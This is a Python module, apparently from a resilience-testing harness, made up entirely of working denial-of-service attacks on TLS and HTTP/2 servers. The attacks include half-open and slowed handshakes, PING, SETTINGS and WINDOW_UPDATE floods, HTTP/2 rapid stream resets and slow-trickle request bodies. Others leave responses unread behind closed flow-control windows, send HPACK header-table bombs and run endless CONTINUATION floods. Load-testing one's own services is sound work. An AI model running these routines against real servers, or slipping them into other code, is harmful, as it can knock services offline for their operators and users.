"""TLS and HTTP/2: handshakes, floods, bodies that trickle, answers that nobody reads, heads that swell."""

import os
import socket
import ssl
import struct
import time

from .peer import (
    ACKNOWLEDGED,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Peer,
    bare,
    frame,
)
from .target import Target

# The beginning of a ClientHello that announces 508 bytes.
CLIENT_HELLO = bytes.fromhex("160301020001" + "0001fc0303")


def half_open(target: Target) -> None:
    """connections that begin a handshake and say nothing more"""
    held: list[socket.socket] = []

    def once() -> None:
        if len(held) >= 400:
            held.pop(0).close()
        connection = bare(target)
        connection.sendall(CLIENT_HELLO)
        held.append(connection)

    target.again(once, 0.002)


def slow_handshakes(target: Target) -> None:
    """handshakes of one byte at a time"""
    held = [bare(target) for _ in range(100)]
    hello = CLIENT_HELLO + os.urandom(503)
    for byte in hello:
        if not target.goes_on:
            return
        for number, connection in enumerate(held):
            try:
                connection.sendall(bytes([byte]))
                target.count()
            except OSError:
                held[number] = bare(target)
        time.sleep(0.05)


def handshakes(target: Target) -> None:
    """whole handshakes, one after the other"""

    def work() -> None:
        target.again(lambda: Peer(target).socket.close())

    target.at_once(4, work)


def _flood(target: Target, make: bytes, count: int) -> None:
    def work() -> None:
        with Peer(target) as peer:
            while target.goes_on:
                peer.send(make)
                target.count(count)
                peer.skim()

    target.at_once(3, work)


def pings(target: Target) -> None:
    """PING without end"""
    _flood(target, frame(PING, 0, 0, bytes(8)) * 500, 500)


def settings(target: Target) -> None:
    """SETTINGS without end"""
    _flood(target, frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096)) * 500, 500)


def setting_sizes(target: Target) -> None:
    """SETTINGS that open and close every stream's window"""
    two = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 30))
    _flood(target, two * 250, 500)


def windows(target: Target) -> None:
    """WINDOW_UPDATE of one byte without end"""
    _flood(target, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500, 500)


def unknown_frames(target: Target) -> None:
    """frames of a kind that nobody knows"""
    _flood(target, frame(0xF7, 0, 0, b"?") * 500, 500)


def priorities(target: Target) -> None:
    """PRIORITY of streams that do not exist"""
    _flood(target, b"".join(frame(PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 0, n % 256)) for n in range(500)), 500)


def acknowledgements(target: Target) -> None:
    """acknowledgements of settings that nobody sent"""
    _flood(target, frame(SETTINGS, ACKNOWLEDGED, 0) * 500, 500)


def resets(target: Target) -> None:
    """streams that are opened and reset at once"""

    def work() -> None:
        with Peer(target) as peer:
            while target.goes_on:
                batch = bytearray()
                for _ in range(100):
                    stream, head = peer.request(target.path("session"), target.token)
                    batch += head + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                peer.send(bytes(batch))
                target.count(100)
                peer.skim()

    target.at_once(3, work)


def empty_data(target: Target) -> None:
    """bodies of frames that hold nothing"""

    def work() -> None:
        with Peer(target) as peer:
            stream, head = peer.request(target.path("upload"), target.token)
            peer.send(head)
            while target.goes_on:
                peer.send(frame(DATA, 0, stream) * 500)
                target.count(500)
                peer.skim()

    target.at_once(3, work)


def trickling(target: Target) -> None:
    """bodies of a byte a second, of known callers and unknown ones"""
    peers = [Peer(target) for _ in range(10)]
    open_streams: list[tuple[Peer, int]] = []
    for peer in peers:
        for number in range(60):
            path, token = (target.path("upload"), target.token) if number % 2 else (target.path("auth/login"), None)
            stream, head = peer.request(path, token)
            peer.send(head)
            open_streams.append((peer, stream))
    while target.goes_on:
        for peer, stream in open_streams:
            try:
                peer.send(frame(DATA, 0, stream, b"x"))
                target.count()
            except OSError:
                pass
        for peer in peers:
            try:
                peer.skim()
            except OSError:
                pass
        time.sleep(0.5)


def unread(target: Target) -> None:
    """answers that nobody reads: the window of every stream is closed"""

    def work() -> None:
        with Peer(target, struct.pack(">HI", 4, 0)) as peer:
            while target.goes_on:
                stream, head = peer.request("/nowhere", target.token, flags=END_STREAM)
                peer.send(head)
                target.count()
                # The socket is read now and then, the streams never.
                if stream % 101 == 0:
                    peer.skim()

    target.at_once(4, work)


def closed_windows(target: Target) -> None:
    """connections of strangers that ask for what everybody may ask, and take nothing of the answers"""
    held: list[Peer] = []

    def once() -> None:
        if len(held) >= 400:
            held.pop(0).socket.close()
        peer = Peer(target, struct.pack(">HI", 4, 0))
        held.append(peer)
        for number in range(30):
            path = "/healthz" if number % 2 else target.path("auth/login")
            peer.send(peer.request(path, method="GET" if number % 2 else "POST", flags=END_STREAM)[1])

    target.again(once)


def unread_sockets(target: Target) -> None:
    """requests without end on connections that are never read"""

    def work() -> None:
        with Peer(target) as peer:
            peer.socket.settimeout(1)
            while target.goes_on:
                batch = b"".join(peer.request("/healthz", method="GET", flags=END_STREAM)[1] for _ in range(50))
                peer.send(batch)
                target.count(50)

    target.at_once(8, work)


def header_bombs(target: Target) -> None:
    """heads that name a large field of the table thousands of times"""

    def work() -> None:
        with Peer(target) as peer:
            while target.goes_on:
                stream = peer.next_stream()
                # A field of 3,900 bytes enters the table as number 62, and is then named by one byte each.
                value = b"x" * 3_900
                size = b"\x7f" + _integer(len(value) - 127)
                bomb = peer.head("/healthz", method="GET") + b"\x40\x01b" + size + value + b"\xbe" * 10_000
                peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb))
                target.count()
                peer.skim()

    target.at_once(3, work)


def _integer(value: int) -> bytes:
    """The rest of an integer of HPACK, behind its prefix."""
    data = bytearray()
    while value >= 0x80:
        data.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes(data) + bytes([value])


def continuations(target: Target) -> None:
    """heads that never end"""

    def work() -> None:
        with Peer(target) as peer:
            stream = peer.next_stream()
            peer.send(frame(HEADERS, 0, stream, peer.head("/healthz", method="GET")))
            piece = b"".join(b"\x00\x04junk\x02ab" for _ in range(1_000))
            while target.goes_on:
                peer.send(frame(CONTINUATION, 0, stream, piece))
                target.count()
                peer.skim()

    target.at_once(3, work)


def empty_continuations(target: Target) -> None:
    """heads that never end, of frames that hold nothing"""

    def work() -> None:
        with Peer(target) as peer:
            stream = peer.next_stream()
            peer.send(frame(HEADERS, 0, stream, peer.head("/healthz", method="GET")))
            while target.goes_on:
                peer.send(frame(CONTINUATION, 0, stream) * 500)
                target.count(500)
                peer.skim()

    target.at_once(3, work)


def plain_text(target: Target) -> None:
    """what is no TLS at all"""

    def once() -> None:
        with bare(target) as connection:
            connection.sendall(target.random.randbytes(2_000))

    target.again(once, 0.001)


def renegotiations(target: Target) -> None:
    """handshakes of old versions and odd ciphers"""

    def once() -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(target.random.choice([["http/1.1"], [], ["h2"] * 50]))
        with bare(target) as connection:
            try:
                context.wrap_socket(connection).close()
            except ssl.SSLError:
                pass

    target.again(once)


CARRIER = [
    half_open,
    slow_handshakes,
    handshakes,
    pings,
    settings,
    setting_sizes,
    windows,
    unknown_frames,
    priorities,
    acknowledgements,
    resets,
    empty_data,
    trickling,
    unread,
    closed_windows,
    unread_sockets,
    header_bombs,
    continuations,
    empty_continuations,
    plain_text,
    renegotiations,
]
